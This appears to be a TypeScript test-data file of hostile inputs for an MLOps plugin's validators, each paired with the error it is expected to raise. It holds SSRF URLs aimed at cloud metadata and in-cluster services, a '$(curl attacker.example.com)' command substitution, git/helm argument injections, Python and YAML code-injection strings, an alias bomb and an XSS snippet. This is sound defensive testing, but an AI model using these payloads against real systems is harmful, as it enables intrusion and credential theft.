/**
 * Hostile action inputs, as data: one line per attack. Each is given on top
 * of a valid input of its action (src/security/inputAttacks.test.ts) and
 * must fail with an error naming `field`, matching `error`, writing nothing.
 * The lead's attack suite can replay them as template values or as steps
 * of a dry-run template.
 *
 * Placeholders: {{OUTSIDE}} is a folder outside the workspace; a `symlink`
 * is created in the workspace (relative path → target) before the run.
 */
export interface InputAttack {
  action:
    | 'mlops:helmrelease:add'
    | 'mlops:settings:set'
    | 'mlops:ml-project:create'
    | 'mlops:git:clone'
    | 'mlops:git:branch'
    | 'mlops:revert'
    | 'mlops:helmrelease:bump'
    | 'mlops:ml-project:publish-local'
    | 'mlops:ml-project:register-local'
    | 'mlops:gitops:snapshot'
    | 'mlops:gitops:preview';
  /** What the attack is after. */
  kind: 'ssrf' | 'substitution' | 'injection' | 'path' | 'argument' | 'redos' | 'exhaustion' | 'text';
  field: string;
  value: unknown;
  error: string;
  symlink?: Record<string, string>;
}

const long = (n: number, c = 'a') => c.repeat(n);

export const INPUT_ATTACKS: InputAttack[] = [
  // SSRF: HelmRepository URLs that source-controller would fetch from inside the cluster.
  { action: 'mlops:helmrelease:add', kind: 'ssrf', field: 'helmRepoUrl', value: 'http://charts.example.com/', error: 'must be an https:// or oci:// URL' },
  { action: 'mlops:helmrelease:add', kind: 'ssrf', field: 'helmRepoUrl', value: 'file:///etc/passwd', error: 'must be an https:// or oci:// URL' },
  { action: 'mlops:helmrelease:add', kind: 'ssrf', field: 'helmRepoUrl', value: 'https://user:secret@charts.example.com/', error: 'must not carry a user name or password' },
  { action: 'mlops:helmrelease:add', kind: 'ssrf', field: 'helmRepoUrl', value: 'https://127.0.0.1/charts', error: 'is not a public DNS name' },
  { action: 'mlops:helmrelease:add', kind: 'ssrf', field: 'helmRepoUrl', value: 'https://169.254.169.254/latest/meta-data/', error: 'is not a public DNS name' },
  { action: 'mlops:helmrelease:add', kind: 'ssrf', field: 'helmRepoUrl', value: 'https://[::1]/charts', error: 'must name a DNS host' },
  { action: 'mlops:helmrelease:add', kind: 'ssrf', field: 'helmRepoUrl', value: 'https://2130706433/', error: 'must be a public DNS name' },
  { action: 'mlops:helmrelease:add', kind: 'ssrf', field: 'helmRepoUrl', value: 'oci://0x7f.0x0.0x0.0x1/charts', error: 'is not a public DNS name' },
  { action: 'mlops:helmrelease:add', kind: 'ssrf', field: 'helmRepoUrl', value: 'https://localhost/charts', error: 'must be a public DNS name' },
  { action: 'mlops:helmrelease:add', kind: 'ssrf', field: 'helmRepoUrl', value: 'https://kubernetes.default/', error: 'is not a public DNS name' },
  { action: 'mlops:helmrelease:add', kind: 'ssrf', field: 'helmRepoUrl', value: 'https://minio.data-plane.svc.cluster.local/', error: 'is not a public DNS name' },
  { action: 'mlops:helmrelease:add', kind: 'ssrf', field: 'helmRepoUrl', value: 'https://source-controller.flux-system/', error: 'is not a public DNS name' },
  { action: 'mlops:helmrelease:add', kind: 'ssrf', field: 'helmRepoUrl', value: 'https://metadata.google.internal/', error: 'is not a public DNS name' },
  { action: 'mlops:helmrelease:add', kind: 'ssrf', field: 'helmRepoUrl', value: 'https://10.0.0.1.nip.io/charts', error: 'embeds an IP address' },
  { action: 'mlops:helmrelease:add', kind: 'ssrf', field: 'helmRepoUrl', value: 'https://192-168-0-1.sslip.io/', error: 'embeds an IP address' },
  { action: 'mlops:helmrelease:add', kind: 'ssrf', field: 'helmRepoUrl', value: 'https://charts.example.com:6443/', error: 'must use the default port (443)' },
  { action: 'mlops:helmrelease:add', kind: 'ssrf', field: 'helmRepoUrl', value: 'https://charts.example.com/#x', error: 'no fragment' },
  { action: 'mlops:helmrelease:add', kind: 'substitution', field: 'helmRepoUrl', value: 'https://charts.example.com/${MINIO_ROOT_PASSWORD}', error: 'must not contain' },
  { action: 'mlops:helmrelease:add', kind: 'exhaustion', field: 'helmRepoUrl', value: `https://charts.example.com/${long(3000)}`, error: 'at most 2048' },
  // SSRF/credential theft: in-cluster endpoints the ML project sends credentials to.
  { action: 'mlops:ml-project:create', kind: 'ssrf', field: 'minioEndpoint', value: 'http://attacker.example.com', error: 'must be the URL of a platform Service' },
  { action: 'mlops:ml-project:create', kind: 'ssrf', field: 'minioEndpoint', value: 'http://minio.kube-system.svc.cluster.local', error: "one of the platform's namespaces" },
  { action: 'mlops:ml-project:create', kind: 'ssrf', field: 'mlflowTrackingUri', value: 'http://u:p@mlflow.ml-lifecycle.svc:5000', error: 'must be the URL of a platform Service' },
  { action: 'mlops:ml-project:create', kind: 'ssrf', field: 'kafkaBootstrapServers', value: 'attacker.example.com:9092', error: 'must be <service>.<namespace>' },
  { action: 'mlops:ml-project:create', kind: 'ssrf', field: 'kafkaBootstrapServers', value: 'kafka.kube-system:9092', error: "one of the platform's namespaces" },
  // Flux post-build substitution and template expressions in text written to Git.
  { action: 'mlops:settings:set', kind: 'substitution', field: 'value', value: '$(curl attacker.example.com)', error: 'must not contain "${", "$(" or backticks' },
  { action: 'mlops:settings:set', kind: 'substitution', field: 'value', value: '${{ secrets.token }}', error: 'must not contain "${", "$(" or backticks' },
  { action: 'mlops:settings:set', kind: 'substitution', field: 'value', value: '${KAFKA_REPLICAS}', error: 'must not contain "${", "$(" or backticks' },
  { action: 'mlops:settings:set', kind: 'substitution', field: 'value', value: '`id`', error: 'must not contain "${", "$(" or backticks' },
  { action: 'mlops:settings:set', kind: 'text', field: 'value', value: 'mlops.example.com\nEVIL: x', error: 'must be one line' },
  { action: 'mlops:settings:set', kind: 'text', field: 'value', value: 'mlops.\u202eexample.com', error: 'bidirectional-override' },
  { action: 'mlops:settings:set', kind: 'exhaustion', field: 'value', value: long(1001), error: 'at most 1000' },
  { action: 'mlops:helmrelease:add', kind: 'substitution', field: 'description', value: 'Redis ${MINIO_ROOT_PASSWORD}', error: 'must not contain "${"' },
  { action: 'mlops:helmrelease:add', kind: 'text', field: 'description', value: 'Redis\u2066 cache', error: 'bidirectional-override' },
  { action: 'mlops:helmrelease:add', kind: 'injection', field: 'description', value: 'x\nkind: Secret', error: 'must be a single line' },
  { action: 'mlops:helmrelease:add', kind: 'substitution', field: 'values', value: 'password: ${MINIO_ROOT_PASSWORD:0:3}\n', error: 'may use "${" only as ${SETTING}' },
  { action: 'mlops:helmrelease:add', kind: 'substitution', field: 'values', value: 'host: ${lower_case}\n', error: 'may use "${" only as ${SETTING}' },
  { action: 'mlops:helmrelease:add', kind: 'substitution', field: 'values', value: 'x: ${{ parameters.name }}\n', error: 'may use "${" only as ${SETTING}' },
  { action: 'mlops:ml-project:create', kind: 'substitution', field: 'description', value: 'Churn ${MINIO_ROOT_PASSWORD}', error: 'must not contain "${"' },
  // YAML documents and tags smuggled into values.
  { action: 'mlops:helmrelease:add', kind: 'injection', field: 'values', value: 'a: 1\n---\napiVersion: v1\nkind: Secret\n', error: 'not valid YAML' },
  { action: 'mlops:helmrelease:add', kind: 'injection', field: 'values', value: 'a: !!python/object/apply:os.system ["id"]\n', error: 'Unresolved tag' },
  { action: 'mlops:helmrelease:add', kind: 'exhaustion', field: 'values', value: `a: &a ["x","x","x","x","x","x","x","x","x"]\n${Array.from({ length: 9 }, (_, i) => `${String.fromCharCode(98 + i)}: &${String.fromCharCode(98 + i)} [*${String.fromCharCode(97 + i)},*${String.fromCharCode(97 + i)},*${String.fromCharCode(97 + i)},*${String.fromCharCode(97 + i)},*${String.fromCharCode(97 + i)},*${String.fromCharCode(97 + i)},*${String.fromCharCode(97 + i)},*${String.fromCharCode(97 + i)},*${String.fromCharCode(97 + i)}]`).join('\n')}\n`, error: 'Excessive alias count' },
  { action: 'mlops:helmrelease:add', kind: 'exhaustion', field: 'values', value: `a: ${long(100_001)}`, error: 'at most 100000' },
  { action: 'mlops:helmrelease:add', kind: 'exhaustion', field: 'valuesSchema', value: `${'{"items":'.repeat(70)}{}${'}'.repeat(70)}`, error: 'nested deeper than 64 levels' },
  // Argument injection: values that start with '-' must never reach git or kubectl as options.
  { action: 'mlops:helmrelease:add', kind: 'argument', field: 'chart', value: '--post-renderer=/bin/sh', error: 'must be a chart name' },
  { action: 'mlops:helmrelease:add', kind: 'argument', field: 'name', value: '--upload-pack=touch', error: 'DNS-1123' },
  { action: 'mlops:helmrelease:add', kind: 'argument', field: 'dependsOn', value: ['-x'], error: 'each entry must be' },
  { action: 'mlops:git:clone', kind: 'argument', field: 'targetPath', value: '--upload-pack=touch /tmp/x', error: "may start with '-'" },
  { action: 'mlops:git:branch', kind: 'argument', field: 'branchName', value: '--force', error: 'must be a branch name' },
  { action: 'mlops:git:branch', kind: 'argument', field: 'branchName', value: 'mlops/x.lock', error: 'not a valid new branch name' },
  { action: 'mlops:git:branch', kind: 'argument', field: 'gitRoot', value: '-C/etc', error: "may start with '-'" },
  { action: 'mlops:revert', kind: 'argument', field: 'name', value: '--output=/tmp/x', error: 'DNS-1123' },
  { action: 'mlops:ml-project:create', kind: 'argument', field: 'image', value: '--privileged', error: 'must be a container image reference' },
  // Python injection into the generated project (its values are written with pyLiteral).
  { action: 'mlops:ml-project:create', kind: 'injection', field: 'labelColumn', value: '__import__("os").system("id")', error: 'must be a column name' },
  { action: 'mlops:ml-project:create', kind: 'injection', field: 'schedule', value: '0 0 * * *"; import os #', error: 'cron schedule' },
  { action: 'mlops:ml-project:create', kind: 'injection', field: 'kafkaEntity', value: 'resource:default/x"\nkind: Secret', error: 'must be an entity ref' },
  { action: 'mlops:ml-project:create', kind: 'injection', field: 'owner', value: 'group:default/ml-team\n', error: 'must be an entity ref' },
  // Paths: traversal, absolute paths, and symlinks out of the workspace (reads and writes).
  { action: 'mlops:helmrelease:add', kind: 'path', field: 'repoPath', value: '/etc', error: 'absolute path' },
  { action: 'mlops:helmrelease:add', kind: 'path', field: 'path', value: '../../..', error: "must not contain '..'" },
  { action: 'mlops:helmrelease:add', kind: 'path', field: 'path', value: 'evil', symlink: { 'gitops/evil': '{{OUTSIDE}}' }, error: 'symbolic link to outside the workspace' },
  { action: 'mlops:helmrelease:add', kind: 'path', field: 'repoPath', value: 'linked', symlink: { linked: '{{OUTSIDE}}' }, error: 'symbolic link to outside the workspace' },
  { action: 'mlops:settings:set', kind: 'path', field: 'repoPath', value: 'linked', symlink: { linked: '{{OUTSIDE}}' }, error: 'symbolic link to outside the workspace' },
  { action: 'mlops:helmrelease:bump', kind: 'path', field: 'repoPath', value: 'linked/sub', symlink: { linked: '{{OUTSIDE}}' }, error: 'symbolic link to outside the workspace' },
  { action: 'mlops:ml-project:create', kind: 'path', field: 'targetPath', value: 'linked', symlink: { linked: '{{OUTSIDE}}' }, error: 'symbolic link to outside the workspace' },
  { action: 'mlops:ml-project:create', kind: 'path', field: 'gitopsFolder', value: 'evil', symlink: { 'gitops/evil': '{{OUTSIDE}}' }, error: 'symbolic link to outside the workspace' },
  { action: 'mlops:ml-project:publish-local', kind: 'path', field: 'sourcePath', value: 'linked', symlink: { linked: '{{OUTSIDE}}' }, error: 'symbolic link to outside the workspace' },
  { action: 'mlops:ml-project:register-local', kind: 'path', field: 'sourcePath', value: 'linked', symlink: { linked: '{{OUTSIDE}}' }, error: 'symbolic link to outside the workspace' },
  { action: 'mlops:git:clone', kind: 'path', field: 'targetPath', value: 'linked', symlink: { linked: '{{OUTSIDE}}' }, error: 'symbolic link to outside the workspace' },
  { action: 'mlops:git:branch', kind: 'path', field: 'gitRoot', value: 'linked', symlink: { linked: '{{OUTSIDE}}' }, error: 'symbolic link to outside the workspace' },
  { action: 'mlops:gitops:snapshot', kind: 'path', field: 'repoPath', value: 'linked', symlink: { linked: '{{OUTSIDE}}' }, error: 'symbolic link to outside the workspace' },
  { action: 'mlops:gitops:preview', kind: 'path', field: 'repoPath', value: 'linked', symlink: { linked: '{{OUTSIDE}}' }, error: 'symbolic link to outside the workspace' },
  { action: 'mlops:gitops:snapshot', kind: 'path', field: 'repoPath', value: '../../etc', error: "must not contain '..'" },
  { action: 'mlops:gitops:preview', kind: 'path', field: 'pathInRepo', value: '../x', error: "must be relative, without '..'" },
  // ReDoS: long inputs made to make backtracking patterns slow are refused by length first.
  { action: 'mlops:helmrelease:add', kind: 'redos', field: 'version', value: `1.0.0${' '.repeat(50)}x`.repeat(3), error: 'at most 100' },
  { action: 'mlops:helmrelease:add', kind: 'redos', field: 'interval', value: '1h'.repeat(40), error: 'at most 50' },
  { action: 'mlops:ml-project:create', kind: 'redos', field: 'owner', value: `${long(300)}!`, error: 'at most 255' },
  { action: 'mlops:ml-project:create', kind: 'redos', field: 'kafkaBootstrapServers', value: `${'a.data-plane:1,'.repeat(80)}x`, error: 'at most 1000' },
  { action: 'mlops:settings:set', kind: 'redos', field: 'key', value: long(200, 'A'), error: 'at most 100' },
];

/**
 * Descriptions that would break out of a Python string or a Markdown
 * table if they were spliced as text; they must come back from the
 * generated config.py exactly as given.
 */
export const PYTHON_TEXT_ATTACKS: string[] = [
  '"; import os; os.system("id"); x = "',
  "'''; import os; '''",
  '""" + __import__("os").popen("id").read() + """',
  '\\"; import os #',
  '{__import__("os").system("id")}',
  '%(x)s %s {0} $HOME #',
  '| --- | <script>alert(1)</script> | `x` |',
];
